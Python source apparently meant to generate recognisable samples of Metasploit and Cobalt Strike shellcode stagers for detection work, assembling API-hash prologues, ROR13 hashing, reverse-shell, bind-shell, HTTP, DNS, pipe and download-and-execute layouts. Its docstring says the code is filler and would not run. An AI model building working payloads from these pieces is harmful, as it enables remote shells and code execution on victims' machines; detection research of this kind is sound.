"""A small assembler of the layouts that Metasploit and Cobalt Strike give their shellcode.

It writes what the reader has to tell apart: entries, hashes, sockaddr structures, texts behind
calls, flags. The code around those is filler, so nothing of this would run.
"""

import struct
from ipaddress import IPv4Address, IPv6Address

BLOCKS = {
    "2009": "6089e531d2648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022c20c1cf0d01c7e2f052578b5210"
    "8b423c01d08b407885c0744a01d0508b48188b582001d3e33c498b348b01d631ff31c0",
    "2014": "6089e531c0648b50308b520c8b52148b72280fb74a2631ffac3c617c022c20c1cf0d01c7e2f252578b52108b4a"
    "3c8b4c1178e34801d1518b592001d38b4918e33a498b348b01d631ffacc1cf0d01c738",
    "2020": "6031d289e5648b52308b520c8b52148b72280fb74a2631ff31c0ac3c617c022c20c1cf0d01c74975ef528b5210"
    "578b423c01d08b407885c0744c01d0508b48188b582001d385c9743c",
    "x64": "415141505251564831d265488b5260488b5218488b5220488b7250480fb74a4a4d31c94831c0ac3c617c022c2041"
    "c1c90d4101c1e2ed524151488b52208b423c4801d0668178180b0275728b80880000004885c074674801d050",
}  # fmt: skip
_BLOCK_SIZES = {"2009": 0x89, "2014": 0x82, "2020": 0x8F, "x64": 0xC8}
_MODULES = {
    "kernel32.dll": "LoadLibraryA VirtualAlloc ExitProcess WinExec CreateProcessA CreateFileA "
    "WaitForSingleObject CreateNamedPipeA DisconnectNamedPipe ReadFile",
    "ws2_32.dll": "WSAStartup WSASocketA connect bind listen accept recv gethostbyname",
    "wininet.dll": "InternetOpenA InternetConnectA HttpOpenRequestA HttpSendRequestA "
    "InternetErrorDlg",
    "winhttp.dll": "WinHttpOpen WinHttpConnect WinHttpOpenRequest",
    "urlmon.dll": "URLDownloadToFileA",
    "dnsapi.dll": "DnsQuery_A",
    "user32.dll": "MessageBoxA",
}
_MODULE = {name: module for module, names in _MODULES.items() for name in names.split()}


def api_hash(function: str, seed: int | None = None) -> bytes:
    """The hash by which shellcode calls a function; with a seed as Metasploit does since 2025."""
    module = (_MODULE[function].upper() + "\0").encode("utf-16-le")
    name = function.encode() + b"\0"
    if seed is None:
        return dword(_ror13(module) + _ror13(name))
    return dword(_ror13(name, _ror13(module[:-2], seed)))


def _ror13(data: bytes, value: int = 0) -> int:
    for byte in data:
        value = ((value >> 13 | value << 19) & 0xFFFFFFFF) + byte & 0xFFFFFFFF
    return value


def dword(value: int) -> bytes:
    return struct.pack("<I", value & 0xFFFFFFFF)


def port_bytes(port: int) -> bytes:
    return struct.pack(">H", port)


def start(block: str = "2014", seed: int | None = None) -> bytes:
    """The entry: cld, call over the function that finds the API, that function."""
    code = bytes.fromhex(BLOCKS[block])
    if seed is not None:
        code = code[:0x16] + b"\x0f\xb7\x4a\x24\xbf" + dword(seed) + code[0x16:]
    code = code.ljust(_BLOCK_SIZES[block], b"\x90")
    entry = b"\xfc\x48\x83\xe4\xf0" if block == "x64" else b"\xfc"
    return entry + b"\xe8" + dword(len(code)) + code + b"\x5d"


def call(function: str, seed: int | None = None) -> bytes:
    """push hash; call ebp"""
    return b"\x68" + api_hash(function, seed) + b"\xff\xd5"


def call64(function: str) -> bytes:
    """mov r10d, hash; call rbp"""
    return b"\x41\xba" + api_hash(function) + b"\xff\xd5"


def push(value: int) -> bytes:
    return b"\x6a" + bytes([value]) if value < 128 else b"\x68" + dword(value)


def over(text: bytes) -> bytes:
    """call over a text: its address is pushed"""
    return b"\xe8" + dword(len(text)) + text


def back(text: bytes, at: int, wanted: int) -> bytes:
    """call back, from offset `at` to the code that pops the address of the text behind the call"""
    return b"\xe8" + dword(wanted - at - 5) + text


def wide(text: str) -> bytes:
    return (text + "\0").encode("utf-16-le")


def narrow(text: str) -> bytes:
    return text.encode() + b"\0"


_WINSOCK = b"\x68\x33\x32\x00\x00\x68\x77\x73\x32\x5f\x54"
_SOCKET = b"\x50\x50\x50\x50\x40\x50\x40\x50"
_DATAGRAM_SOCKET = b"\x50\x50\x50\x50\x40\x40\x50\x50"
_RC4 = b"\x31\xc0\xaa\xfe\xc0\x75\xfb"
_NEXT_PORT = bytes.fromhex("31c0668b460286e0664086e066894602")
_SHELL = b"\x68cmd\x00\x89\xe3"


def sockaddr(host: str, port: int) -> bytes:
    """push address; push port and AF_INET; mov esi, esp"""
    return b"\x68" + IPv4Address(host).packed + b"\x68\x02\x00" + port_bytes(port) + b"\x89\xe6"


def reverse_tcp(
    host: str,
    port: int,
    *,
    block: str = "2014",
    seed: int | None = None,
    address_first: bool = False,
    datagram: bool = False,
    tail: bytes = b"",
) -> bytes:
    """A stager that connects; older ones create the socket first, newer ones set the address."""
    address = b"\x6a\x05" + sockaddr(host, port)
    socket = _DATAGRAM_SOCKET if datagram else _SOCKET
    create = socket + call("WSASocketA", seed) + b"\x97"
    return (
        start(block, seed)
        + _WINSOCK
        + call("LoadLibraryA", seed)
        + call("WSAStartup", seed)
        + (address + create if address_first else create + address)
        + b"\x6a\x10\x56\x57"
        + call("connect", seed)
        + tail
        + call("recv", seed)
    )


def reverse_tcp_rc4(host: str, port: int, key: bytes) -> bytes:
    return reverse_tcp(host, port, tail=b"\xe8\x10\x00\x00\x00" + key + b"\x5e" + _RC4)


def reverse_tcp_allports(host: str, port: int) -> bytes:
    return reverse_tcp(host, port, tail=_NEXT_PORT)


def shell_reverse_tcp(host: str, port: int) -> bytes:
    tail = _SHELL + call("CreateProcessA") + call("WaitForSingleObject")
    return reverse_tcp(host, port, tail=tail)


def reverse_tcp_dns(host: str, port: int) -> bytes:
    return (
        start()
        + call("WSASocketA")
        + over(narrow(host).ljust(64, b"X")[:-1] + b"\0")
        + call("gethostbyname")
        + b"\x8b\x40\x1c\x6a\x05\x50\x68\x02\x00"
        + port_bytes(port)
        + b"\x89\xe6\x6a\x10\x56\x57"
        + call("connect")
    )


def reverse_ipv6_tcp(host: str, port: int) -> bytes:
    address = b"\x17\x00" + port_bytes(port) + bytes(4) + IPv6Address(host).packed + bytes(4)
    return (
        start("2009") + call("WSASocketA") + b"\x6a\x1c" + over(address) + b"\x57" + call("connect")
    )


def bind_tcp(port: int, *, shell: bool = False, ipv6: bool = False) -> bytes:
    family = b"\x17" if ipv6 else b"\x02"
    return (
        start()
        + call("WSASocketA")
        + b"\x97\x68" + family + b"\x00" + port_bytes(port) + b"\x89\xe6\x6a\x10\x56\x57"
        + call("bind")
        + call("listen")
        + call("accept")
        + (_SHELL + call("CreateProcessA") + call("WaitForSingleObject") if shell else call("recv"))
    )  # fmt: skip


def x64_reverse_tcp(host: str, port: int) -> bytes:
    address = b"\x49\xbc\x02\x00" + port_bytes(port) + IPv4Address(host).packed
    return start("x64") + address + call64("LoadLibraryA") + call64("connect") + call64("recv")


def x64_bind_tcp(port: int) -> bytes:
    address = b"\x49\xbc\x02\x00" + port_bytes(port) + bytes(4)
    return start("x64") + address + call64("bind") + call64("listen") + call64("accept")


_FLAGS = {"http": 0x84600200, "https": 0x84E03200}


def reverse_http(
    scheme: str, host: str, port: int, path: str, *, proxy: str = "", agent: str = ""
) -> bytes:
    """The stager since 2015: call over the path to the end, where a call back gives the host."""
    code = start() + call("LoadLibraryA") + b"\x53"
    code += b"\x54" + over(narrow(proxy)) + b"\x6a\x03" if proxy else b"\x53\x53\x53"
    code += over(narrow(agent)) if agent else b"\x53"
    code += call("InternetOpenA") + b"\x53\x53\x6a\x03\x53\x53" + push(port)
    request = b"\x53\x68" + dword(_FLAGS[scheme]) + b"\x53\x53\x53\x57\x53\x56"
    request += call("HttpOpenRequestA") + call("HttpSendRequestA") + b"\x58\xc3"
    return _with_host_at_the_end(
        code, narrow(path), call("InternetConnectA"), request, narrow(host)
    )


def _with_host_at_the_end(
    code: bytes, path: bytes, connect: bytes, request: bytes, host: bytes
) -> bytes:
    rest = path + b"\x50" + connect + request
    wanted = len(code) + 5 + len(path)
    code += b"\xe8" + dword(len(rest)) + rest + b"\x5f"
    return code + back(host, len(code), wanted)


def old_reverse_http(
    scheme: str, host: str, port: int, path: str, *, fields: bytes = b"", rest: bytes = b""
) -> bytes:
    """The stager until 2015: jumps to calls back for both host and path."""
    code = start("2009") + b"\x57\x57\x57\x57\x56" + call("InternetOpenA") + b"\xeb\x60"
    host_wanted = len(code)
    code += b"\x5b\x31\xc9\x51\x51\x6a\x03\x51\x51" + push(port) + b"\x53\x50"
    code += call("InternetConnectA") + b"\xeb\x4f"
    path_wanted = len(code)
    code += b"\x59\x31\xd2\x52\x68" + dword(_FLAGS[scheme]) + b"\x52\x52\x52\x51\x52\x50"
    code += call("HttpOpenRequestA") + call("HttpSendRequestA")
    code += back(narrow(path), len(code), path_wanted) + fields + call("ExitProcess") + rest
    return code + back(narrow(host), len(code), host_wanted)


def download_exec(scheme: str, host: str, port: int, path: str, file: str) -> bytes:
    execute = call("CreateFileA") + call("WinExec")
    rest = execute + back(narrow(file), len(execute), 0)
    return old_reverse_http(scheme, host, port, path, rest=rest)


def x64_reverse_http(scheme: str, host: str, port: int, path: str) -> bytes:
    return (
        start("x64")
        + call64("LoadLibraryA")
        + call64("InternetOpenA")
        + over(narrow(host))
        + b"\x5a\x48\x89\xc1\x49\xc7\xc0"
        + dword(port)
        + b"\x6a\x03\x53"
        + call64("InternetConnectA")
        + over(narrow(path))
        + b"\x48\x89\xc1\xb8"
        + dword(_FLAGS[scheme])
        + b"\x50\x53\x53"
        + call64("HttpOpenRequestA")
    )


def reverse_winhttp(scheme: str, host: str, port: int, path: str) -> bytes:
    """With the whole URL in place of the path: Windows looks up the proxy for it."""
    code = start("2020") + call("LoadLibraryA") + call("WinHttpOpen") + b"\x50\x53" + push(port)
    request = b"\x68" + dword(0x00800100 if scheme == "https" else 0x00000100)
    request += b"\x53\x53\x53\x57\x53\x50" + call("WinHttpOpenRequest")
    url = wide(f"{scheme}://{host}:{port}{path}")
    return _with_host_at_the_end(code, url, call("WinHttpConnect"), request, wide(host))


def cobalt_strike_http(
    scheme: str, host: str, port: int, path: str, headers: str, watermark: int
) -> bytes:
    """Path and headers in fields of fixed length, filled with anything; watermark at the end."""
    fields = b"\xa5" * 60 + b"\0" + headers.encode().ljust(303, b"\0") + b"\0"
    code = old_reverse_http(scheme, host, port, path, fields=fields, rest=call("InternetErrorDlg"))
    return code + struct.pack(">I", watermark)


def cobalt_strike_dns(name: str) -> bytes:
    return start("2009") + call("DnsQuery_A") + b"\x90" + back(b"\0" + narrow(name), 9, 0)


def cobalt_strike_pipe(name: str) -> bytes:
    calls = call("CreateNamedPipeA") + call("ReadFile") + call("DisconnectNamedPipe")
    return start("2009") + calls + back(narrow(rf"\\.\pipe\{name}"), len(calls), 0)


def execute(command: str) -> bytes:
    """push 1; lea eax, [ebp+d]; push eax; WinExec; the command at the end"""
    head, tail = start("2009") + b"\x6a\x01", b"\x50" + call("WinExec") + call("ExitProcess")
    distance = len(head) + 6 + len(tail) - 6
    return head + b"\x8d\x85" + dword(distance) + tail + narrow(command)


def x64_execute(command: str) -> bytes:
    head, tail = (
        start("x64") + b"\x48\xba\x01" + bytes(7),
        call64("WinExec") + call64("ExitProcess"),
    )
    distance = len(head) + 7 + len(tail) - 10
    return head + b"\x48\x8d\x8d" + dword(distance) + tail + narrow(command)


def x64_download(url: str, file: str) -> bytes:
    """Texts without a null byte at the end: the code writes it there."""
    return (
        start("x64")
        + over(b"urlmon.dllK")
        + b"\x59\x80\x71\x0aK"
        + call64("LoadLibraryA")
        + over(url.encode() + b"A")
        + b"\x5a\x90"
        + over(file.encode() + b"C")
        + b"\x41\x58"
        + call64("URLDownloadToFileA")
        + over(f"cmd /c {file}F".encode())
        + b"\x59"
        + call64("WinExec")
    )


def messagebox() -> bytes:
    return start() + call("LoadLibraryA") + call("MessageBoxA")


def reverse_nonx_tcp(host: str, port: int) -> bytes:
    """A stager of 2005: hashes of 16 bits, the address pushed in three parts."""
    address = b"\x68" + IPv4Address(host).packed + b"\x66\x68" + port_bytes(port) + b"\x66\x53"
    return b"\xfc\x6a\xeb\x66\xb9\x72\x60\xff\xd6" + address + b"\x89\xe3\x66\xb9\x57\x05\xff\xd6"


def reverse_ord_tcp(host: str, port: int) -> bytes:
    """A stager that looks for ws2_32.dll and calls its functions by their ordinals."""
    return b"\xfc\x31\xdb\x3d\x32\x33\x5f\x32\x75\xef\x97" + sockaddr(host, port) + b"\xff\xe5"
